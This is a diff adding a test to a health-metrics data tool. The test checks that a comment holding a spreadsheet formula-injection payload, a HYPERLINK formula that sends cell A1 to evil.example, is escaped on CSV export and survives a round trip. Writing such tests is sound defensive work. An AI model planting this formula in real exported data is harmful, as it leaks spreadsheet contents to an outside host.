@@ -134,3 +134,18 @@ def test_rollup_as_a_viewer_suppresses_small_counts(enrolled, run, tmp_path, mak
     run("data", "rollup", "--org", "H1", "--measure", "falls.rate", "--out", str(out),
         "--as", "ward")
     assert out.read_text().splitlines()[1].startswith("2026-01,4,1800,")
+
+
+def test_export_writes_a_formula_comment_as_text_and_imports_it_back(enrolled, run, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1)'
+    source = tmp_path / "values.csv"
+    quoted = formula.replace('"', '""')
+    source.write_text(HEADER + f'W1,falls.rate,2026-01,3,1000,,"{quoted}"\n', encoding="utf-8")
+    assert run("data", "import", str(source)).exit_code == 0
+    assert DataValue.objects.get().comment == formula
+    out = tmp_path / "out.csv"
+    run("data", "export", "--org", "W1", "--format", "csv", "--out", str(out))
+    assert "'" + formula.replace('"', '""') in out.read_text(encoding="utf-8")
+    result = run("data", "import", str(out))
+    assert json.loads(result.stdout)["counts"]["unchanged"] == 1
+    assert DataValue.objects.get().comment == formula
